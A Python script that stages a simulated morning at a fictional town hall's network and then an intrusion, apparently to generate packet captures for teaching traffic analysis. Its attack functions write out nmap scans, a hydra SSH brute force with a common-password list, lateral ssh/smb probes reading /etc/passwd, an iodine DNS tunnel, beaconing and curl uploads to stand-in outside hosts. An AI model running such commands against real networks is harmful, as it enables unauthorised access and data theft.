# SPDX-License-Identifier: AGPL-3.0-or-later
"""The demonstration: a morning at the town hall of Valbourg, and the attack that follows.

08:00  leases, clock, browsing, files, mail-sized pages, a printer, ssh by the administrator
09:20  the civil-status server shows an expired certificate; plans leave by FTP with the password in clear
10:05  the reception desk's computer begins to call an unknown address every minute
10:12  it scans the servers, then the whole network
10:20  it guesses the ssh password of the server until one works, and comes in
10:31  from there: file shares, remote desktops and ssh of the other computers
10:40  a tunnel inside DNS
10:52  the collected files leave for an address nobody ever used
"""
import contextlib

import services
import work
from scene import Scene
from town import LAN, LAN_HOSTS

WORDS = (
    '123456 password azerty valbourg Valbourg2024 mairie59 bienvenue qwerty letmein admin123 P@ssw0rd Ete2025 '
    'Hiver2025 motdepasse secret changeme root toor test1234 Valbourg59 Mairie2025 Mairie2026 Printemps2026 '
    'iloveyou doudou chouchou marseille nicolas jetaime loulou soleil valbourg1'
).split()


def arrive(town, desks):
    for desk in desks:
        work.lease(desk, name=f'poste-{desk.name}')
    for desk in desks:
        work.time_of_day(desk)


def visits(desk, number):
    """What somebody at this desk may do at any moment of the morning."""
    return [
        lambda: work.browse(desk, 'intranet.valbourg.example', pages=['', *(f'image-{i}.svg' for i in range(6))]),
        lambda: work.browse(desk, 'www.prefecture.example'),
        lambda: work.browse(
            desk, 'www.journal.example', tls=True, pages=['page.html', *(f'image-{number + i}.svg' for i in range(4))]
        ),
        lambda: work.browse(desk, 'mises-a-jour.example', pages=['petit.bin']),
        lambda: work.look_up(desk, 'www.prefecture.example', 'images.journal.example'),
        lambda: work.smb(desk, f'{LAN}.11', 'ls'),
        lambda: work.time_of_day(desk),
    ]


def morning(town, desks):
    """Three hours of work by all, recorded in 90 seconds, stretched 135 times; the incidents come on top of it."""
    accueil, mairie, urbanisme, compta = desks[:4]
    with town.capture(at=0, factor=135), contextlib.ExitStack() as people:
        arrive(town, desks)
        for number, desk in enumerate(desks):
            people.enter_context(work.Background(visits(desk, number), seed=number, pause=(0.8, 4)))
        work.sleep(8)
        work.browse(compta, 'intranet.valbourg.example', tls=True)
        work.ssh_typed(mairie, f'{LAN}.10', ['uptime', 'df -h /', 'ls -l /'])
        work.sleep(10)
        work.scp(mairie, f'{LAN}.10', 60000)
        work.browse(accueil, 'mises-a-jour.example', pages=['mise-a-jour.bin'])
        work.sleep(12)
        work.look_up(compta, 'gros.prefecture.example TXT', options='+bufsize=512 +time=2')
        work.browse(urbanisme, 'imprimante.valbourg.example', pages=['image-1.svg'])
        work.sleep(15)
        compta.write('budget.txt', 'Budget 2026\n')
        work.smb(compta, f'{LAN}.11', 'put budget.txt; ls')
        accueil.run('ping -c 3 192.168.20.1')
        work.sleep(34)


def carelessness(desks):
    accueil, mairie, urbanisme, compta = desks[:4]
    for desk in (accueil, mairie, compta):
        work.browse(desk, 'etat-civil.valbourg.example', tls=True, pages=['page.html', 'image-2.svg'])
    work.look_up(urbanisme, 'ftp.imprimeur.example')
    work.ftp_session(urbanisme, '203.0.113.21', 'plans', services.USERS['plans'])


def scan(accueil):
    accueil.run(f'nmap -n -sS --top-ports 300 -T4 --max-retries 1 {LAN}.10 {LAN}.11')
    accueil.run(f'nmap -n -sS -p 22,80,443,445,3389 -T4 --max-retries 1 {LAN}.1-80', timeout=60)


def guess(accueil):
    words = accueil.write('mots.txt', '\n'.join(WORDS) + '\n')
    accueil.run(f'hydra -l admin -P {words} -t 4 -w 1 -I ssh://{LAN}.10', timeout=90)
    work.ssh_typed(accueil, f'{LAN}.10', ['id', 'uname -a', 'cat /etc/hosts', 'ls /home'], user='admin')


def sideways(serveur, desks):
    """From the server just taken, towards everything that may open."""
    for desk in desks:
        serveur.run(f'nmap -n -sT -p 22,445,3389,5985 --max-retries 0 {desk.ip}', timeout=20)
    for address in (f'{LAN}.11', f'{LAN}.12'):
        work.ssh(serveur, address, 'id; cat /etc/passwd | head -3', user='admin')
        work.smb(serveur, address, 'ls', user='mairie')
    for desk in desks[1:]:
        work.ssh(serveur, desk.ip, 'id', user='admin')


def tunnel(town, accueil):
    inconnu = town.inconnu
    server = inconnu.start(['iodined', '-f', '-c', '-P', 'demo', '10.53.0.1/27', 't.telemetry-sync.example'], port=53, udp=True)
    client = accueil.start(
        ['iodine', '-f', '-r', '-T', 'TXT', '-m', '180', '-I', '2', '-P', 'demo', f'{LAN}.1', 't.telemetry-sync.example'], wait=4
    )
    accueil.run(
        'head -c 16000 /dev/urandom > liste.bin; ping -c 3 -s 90 10.53.0.1; nc -u -w 1 -q 1 10.53.0.1 9 < liste.bin; '
        'ping -c 20 -i 0.3 -s 200 10.53.0.1',
        timeout=20,
    )
    town.stop(client)
    town.stop(server)


def leave(serveur):
    serveur.run(
        'for n in 1 2 3; do head -c 2500000 /dev/zero | curl -sk --max-time 30 --limit-rate 800k -H Expect: -T - -X POST '
        'http://depot.fichier.example/depot -o /dev/null; done',
        timeout=90,
    )


def play(make):
    desks = ['accueil', 'mairie', 'urbanisme', 'compta']
    with_lease = {'accueil': 31, 'mairie': 32, 'urbanisme': 33, 'compta': 34}
    with make(
        lan=['serveur', 'fichiers', 'etat-civil', 'supervision', 'imprimante'],
        net=['resolver', 'horloge', 'web', 'cdn', 'partenaire', 'depot', 'inconnu'],
    ) as town:
        for name in desks:
            town.add_lan(name, *LAN_HOSTS[name], lease=True)
        extra = [f'--dhcp-host={LAN_HOSTS[name][1]},{LAN}.{last},{name}' for name, last in with_lease.items()]
        services.dns_dhcp(town, lease=True, extra=[*extra, '--server=/telemetry-sync.example/203.0.113.99'])
        services.internet_dns(town, ['--txt-record=gros.prefecture.example,' + ','.join(['x' * 200] * 6)])
        services.clock(town)
        services.web(town.serveur, tls='valid', chain='chain')
        services.ssh(town.serveur, tries=2)
        services.samba(town.fichiers)
        services.ssh(town.fichiers)
        services.web(town.etat_civil, tls='expired')
        services.ssh(town.etat_civil)
        services.samba(town.etat_civil)
        services.web(town.imprimante, tls='self')
        services.web(town.web, tls='public', protocols='TLSv1.2 TLSv1.3')
        services.web(town.cdn)
        services.ftp(town.partenaire)
        services.web(town.depot)
        services.web(town.inconnu, tls='self', port=8080)
        hosts = [town.hosts[name] for name in desks]
        for host, last in zip(hosts, with_lease.values()):
            host.ip = f'{LAN}.{last}'
        for host in hosts[1:]:
            services.ssh(host)
        town.forget_neighbours()
        morning(town, hosts)
        with town.capture(at=4800, factor=30):  # 09:20
            carelessness(hosts)
        usual = [
            lambda: work.browse(town.mairie, 'www.prefecture.example'),
            lambda: work.browse(town.compta, 'intranet.valbourg.example', pages=['', 'image-1.svg', 'image-2.svg']),
            lambda: work.look_up(town.urbanisme, 'www.journal.example'),
        ]
        with town.capture(at=7500, pause='0.6:60'):  # 10:05, one call a minute
            town.accueil.run(
                'for n in $(seq 45); do curl -sk --max-time 3 -A "Mozilla/5.0" -o /dev/null '
                'https://203.0.113.99/petit.bin; sleep 1.0$(($(od -An -N1 -tu1 /dev/urandom) % 5)); done',
                timeout=120,
            )
        for at, job, factor in (
            (7920, lambda: scan(town.accueil), 1),
            (8400, lambda: guess(town.accueil), 3),
            (9060, lambda: sideways(town.serveur, hosts), 10),
            (9600, lambda: tunnel(town, town.accueil), 6),
            (10320, lambda: leave(town.serveur), 20),
        ):
            with town.capture(at=at, factor=factor), work.Background(usual, pause=(1, 4)):
                job()


SCENE = Scene(
    'town-hall',
    'a morning at the town hall, then an intrusion from scan to leak',
    'see the head of tools/record/story.py',
    play,
    {
        'dhcp': 8,
        'tls.handshake.type==11': 5,
        'ftp.request.command=="PASS"': 1,
        'ssh': 100,
        'tcp.flags.syn==1 && tcp.flags.ack==0': 800,
        'dns.qry.name contains "telemetry-sync"': 60,
        'smb2': 30,
        'ntp': 4,
        'ip.dst==203.0.113.66 && tcp.len>1000': 3000,
    },
    seconds=200,
    limit=3 * 1024 * 1024,
)
